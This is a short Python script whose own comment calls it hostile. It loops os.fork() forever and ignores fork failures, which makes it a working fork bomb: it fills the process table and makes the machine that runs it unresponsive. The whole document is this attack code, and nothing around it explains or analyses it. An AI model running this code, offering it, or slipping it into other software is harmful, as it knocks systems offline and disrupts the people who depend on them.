# A hostile part 2 "PDC": forks without end, and keeps trying when fork fails.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
